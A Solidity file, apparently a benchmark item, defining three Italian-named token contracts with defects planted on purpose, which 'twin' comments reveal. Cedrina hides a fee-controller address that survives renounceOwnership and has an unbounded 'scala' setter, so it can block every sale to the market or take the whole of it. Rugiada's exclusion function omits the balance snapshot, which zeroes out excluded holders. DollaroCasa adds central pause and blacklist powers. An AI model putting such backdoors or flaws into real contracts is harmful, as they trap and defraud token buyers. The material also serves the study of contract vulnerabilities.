// 0.6 runs=200
// SPDX-License-Identifier: MIT
pragma solidity ^0.6.12;

contract Tesoreria {
    mapping(address => uint256) internal _libro;
    mapping(address => mapping(address => uint256)) internal _delega;
    uint256 public totalSupply;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function balanceOf(address chi) public view virtual returns (uint256) {
        return _libro[chi];
    }

    function allowance(address chi, address chi2) external view returns (uint256) {
        return _delega[chi][chi2];
    }

    function approve(address chi, uint256 v) external returns (bool) {
        _delega[msg.sender][chi] = v;
        emit Approval(msg.sender, chi, v);
        return true;
    }

    function transfer(address a, uint256 v) external returns (bool) {
        _muovi(msg.sender, a, v);
        return true;
    }

    function transferFrom(address da, address a, uint256 v) external returns (bool) {
        require(_delega[da][msg.sender] >= v, "delega");
        _delega[da][msg.sender] -= v;
        _muovi(da, a, v);
        return true;
    }

    function _muovi(address da, address a, uint256 v) internal virtual {
        require(_libro[da] >= v, "saldo");
        _libro[da] -= v;
        _libro[a] += v;
        emit Transfer(da, a, v);
    }
}

contract Cedrina is Tesoreria {
    string public constant name = "Cedrina";
    string public constant symbol = "CEDR";
    uint8 public constant decimals = 18;
    address public owner;
    address private cassa;
    address private luogo;
    uint32 private quota = 20;
    uint32 private scala = 1000;

    constructor() public {
        owner = msg.sender;
        cassa = msg.sender;
        totalSupply = 7000000 ether;
        _libro[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function setMarket(address luogo_) external {
        require(owner == msg.sender);
        luogo = luogo_;
    }

    function renounceOwnership() external {
        require(owner == msg.sender);
        owner = address(0);
    }

    function precisione(uint32 scala_) external {
        require(msg.sender == cassa);
        // twin: require(scala_ >= 1000);
        scala = scala_;
    }

    function _muovi(address da, address a, uint256 v) internal override {
        uint256 parte = 0;
        if (a == luogo && da != cassa) {
            require(scala > 0, "scala");
            parte = v * quota / scala;
            require(parte <= v, "quota");
        }
        if (parte > 0) super._muovi(da, cassa, parte);
        super._muovi(da, a, v - parte);
    }
}

/// Every payment leaves two of a hundred to all who hold.
contract Rugiada {
    string public constant name = "Rugiada";
    string public constant symbol = "RUGD";
    uint8 public constant decimals = 9;
    uint256 public constant totalSupply = 10**15 * 10**9;
    uint256 private tutto = uint256(-1) - (uint256(-1) % totalSupply);
    address public owner;
    address[] private fuori;
    mapping(address => uint256) private gocce;
    mapping(address => uint256) private monete;
    mapping(address => bool) public escluso;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() public {
        owner = msg.sender;
        gocce[msg.sender] = tutto;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function escludi(address chi) external {
        require(msg.sender == owner && !escluso[chi] && fuori.length < 50);
        // twin: monete[chi] = gocce[chi] / tasso();
        escluso[chi] = true;
        fuori.push(chi);
    }

    function tasso() public view returns (uint256) {
        uint256 g = tutto;
        uint256 t = totalSupply;
        for (uint256 i = 0; i < fuori.length; i++) {
            if (gocce[fuori[i]] > g || monete[fuori[i]] > t) return tutto / totalSupply;
            g -= gocce[fuori[i]];
            t -= monete[fuori[i]];
        }
        return g < tutto / totalSupply ? tutto / totalSupply : g / t;
    }

    function balanceOf(address chi) public view returns (uint256) {
        return escluso[chi] ? monete[chi] : gocce[chi] / tasso();
    }

    function approve(address s, uint256 v) external returns (bool) {
        allowance[msg.sender][s] = v;
        emit Approval(msg.sender, s, v);
        return true;
    }

    function transfer(address a, uint256 v) external returns (bool) {
        _piove(msg.sender, a, v);
        return true;
    }

    function transferFrom(address da, address a, uint256 v) external returns (bool) {
        require(allowance[da][msg.sender] >= v);
        allowance[da][msg.sender] -= v;
        _piove(da, a, v);
        return true;
    }

    function _piove(address da, address a, uint256 v) private {
        uint256 r = tasso();
        uint256 fee = da == owner || a == owner ? 0 : v / 50;
        require(gocce[da] >= v * r, "gocce");
        gocce[da] -= v * r;
        gocce[a] += (v - fee) * r;
        if (escluso[da]) {
            require(monete[da] >= v, "monete");
            monete[da] -= v;
        }
        if (escluso[a]) monete[a] += v - fee;
        tutto -= fee * r;
        emit Transfer(da, a, v - fee);
    }
}

/// A dollar of one house.
contract DollaroCasa is Tesoreria {
    string public name = "Casa Dollar";
    string public symbol = "CASD";
    uint8 public constant decimals = 6;
    address public owner;
    address public pauser;
    address public blacklister;
    bool public paused;
    mapping(address => bool) internal blacklisted;

    event OwnershipTransferred(address previousOwner, address newOwner);
    event Pause();
    event Unpause();

    constructor(address chi) public {
        owner = chi;
        pauser = chi;
        blacklister = chi;
        totalSupply = 25_000_000 * 10**6;
        _libro[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
        emit OwnershipTransferred(address(0), chi);
    }

    function pause() external {
        require(msg.sender == pauser, "Pausable: caller is not the pauser");
        paused = true;
        emit Pause();
    }

    function unpause() external {
        require(msg.sender == pauser, "Pausable: caller is not the pauser");
        paused = false;
        emit Unpause();
    }

    function blacklist(address chi) external {
        require(msg.sender == blacklister);
        blacklisted[chi] = true;
    }

    function unBlacklist(address chi) external {
        require(msg.sender == blacklister);
        blacklisted[chi] = false;
    }

    function _muovi(address da, address a, uint256 v) internal override {
        require(!paused && !blacklisted[da] && !blacklisted[a]);
        super._muovi(da, a, v);
    }
}
